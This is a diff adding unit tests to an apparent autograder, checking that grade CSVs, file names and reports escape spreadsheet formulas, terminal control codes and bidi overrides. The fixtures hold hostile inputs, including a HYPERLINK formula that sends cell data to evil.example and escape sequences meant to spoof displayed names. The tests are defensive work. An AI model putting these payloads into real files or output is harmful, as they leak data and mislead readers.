@@ -328,6 +328,108 @@ TEST(Formats, GradesCsvHasOneColumnPerCaseOfTheWholeClass) {
     EXPECT_EQ(rows, want) << csv;
 }
 
+TEST(Formats, GradesCsvHoldsNoFormulaAndNoControlByte) {
+    if (!have("/usr/bin/python3")) GTEST_SKIP() << "python3 is not installed";
+    struct Row {
+        std::string name, read;  // the student's folder, the cell a spreadsheet reads
+    };
+    const std::vector<Row> rows = {
+        {"=HYPERLINK(\"http://evil.example?\"&A1,\"Click for grade\")",
+         "'=HYPERLINK(\"http://evil.example?\"&A1,\"Click for grade\")"},
+        {"+1+1", "'+1+1"},
+        {"-2+3", "'-2+3"},
+        {"@SUM(A1)", "'@SUM(A1)"},
+        {"\t=1", "'\t=1"},
+        {"\r=1", "'\\x0d=1"},
+        {"esc\x1b[31m", "esc\\x1b[31m"},
+        {"rlo \xe2\x80\xae"
+         "001",
+         "rlo \\u202e001"},
+        {"ann=1", "ann=1"},
+    };
+    std::vector<SubmissionResult> all;
+    for (const Row& r : rows) {
+        SubmissionResult s;
+        s.submission = r.name;
+        s.cases = {result("-case", Verdict::passed, "", 3)};
+        all.push_back(s);
+    }
+    const std::string csv = check::grades_csv(all);
+    EXPECT_EQ(csv.find('\x1b'), std::string::npos);
+    EXPECT_EQ(csv.find("\xe2\x80\xae"), std::string::npos);
+    const Ran ran =
+        run_on("/usr/bin/python3 -c 'import csv,json,sys; "
+               "print(json.dumps(list(csv.reader(open(sys.argv[1], newline=\"\")))))' FILE",
+               csv);
+    const json read = json::parse(ran.out);
+    ASSERT_EQ(read.size(), rows.size() + 1) << csv;
+    EXPECT_EQ(read[0][5], "'-case") << "a case's name is a text cell too";
+    for (std::size_t k = 0; k < rows.size(); ++k) {
+        EXPECT_EQ(read[k + 1][0], rows[k].read) << csv;
+        EXPECT_EQ(read[k + 1][1], "3") << "a score stays a number";
+    }
+}
+
+TEST(Formats, FileNamesNeverCollide) {
+    const std::vector<std::vector<std::string>> classes = {
+        {"kim_lee", "kim\x7flee"},
+        {"kim\x7flee", "kim\x01lee", "kim/lee", "kim_lee"},
+        {"a", "a-2", "a\x01", "a\x02"},
+        {".", "..", "_.", ".hidden", ""},
+        {std::string(300, 'x'), std::string(300, 'x') + "y"},
+        {"r\xe2\x80\xae"
+         "lo",
+         "r_lo",
+         "r\xff"
+         "lo"},
+        {"é", "ü"},
+    };
+    for (const auto& names : classes) {
+        const std::vector<std::string> files = check::file_names(names);
+        ASSERT_EQ(files.size(), names.size());
+        std::vector<std::string> sorted = files;
+        std::sort(sorted.begin(), sorted.end());
+        EXPECT_EQ(std::adjacent_find(sorted.begin(), sorted.end()), sorted.end())
+            << "two names share a file: " << names.front();
+        for (const std::string& f : files) {
+            EXPECT_FALSE(f.empty() || f.front() == '.') << f;
+            EXPECT_EQ(f.find('/'), std::string::npos) << f;
+            EXPECT_LE(f.size() + 4, 255U) << "a file name with .txt fits";
+            EXPECT_EQ(check::visible_text(f, check::Shown::name), f) << "plain characters only";
+        }
+    }
+    // A name that collides with none keeps its plain form, and the same class gives the
+    // same names every time.
+    EXPECT_EQ(check::file_names({"ann", "kim_lee", "kim\x7flee"})[0], "ann");
+    EXPECT_EQ(check::file_names({"kim_lee", "kim\x7flee"}),
+              check::file_names({"kim_lee", "kim\x7flee"}));
+}
+
+TEST(Formats, EveryOutputShowsControlsAndBidiEscaped) {
+    SubmissionResult s;
+    s.program = "setcalc";
+    s.submission = "mallory\xe2\x80\xae"
+                   "0/01\x1b[2J\xc2\x9b";
+    s.build_verdict = "built";
+    s.build_message = "main.c:1: warning: \xc2\x9b"
+                      "31m \xe2\x81\xa6 \x1b]0;title\x07\n";
+    s.cases = {result("case\xe2\x80\xae", Verdict::wrong_output, "  got \xe2\x80\xad\x1b[1m\n")};
+    const std::vector<std::pair<std::string, std::string>> outputs = {
+        {"json", check::to_json(s)},       {"gradescope", check::to_gradescope(s)},
+        {"junit", check::to_junit(s)},     {"tap", check::to_tap(s)},
+        {"csv", check::grades_csv({s})},   {"feedback", check::feedback_text(s)},
+        {"html", check::report_html({s})},
+    };
+    for (const auto& [what, text] : outputs) {
+        for (const char* raw :
+             {"\x1b", "\x07", "\xc2\x9b", "\xe2\x80\xae", "\xe2\x80\xad", "\xe2\x81\xa6"})
+            EXPECT_EQ(text.find(raw), std::string::npos) << what << " holds a raw control";
+        EXPECT_NE(text.find("202e"), std::string::npos) << what << " hides the override";
+    }
+    // JSON readers still get the very text back.
+    EXPECT_EQ(json::parse(check::to_json(s))["submission"], s.submission);
+}
+
 TEST(Formats, FeedbackShowsVisibleDifferencesOnly) {
     SubmissionResult s;
     s.build_verdict = "built";
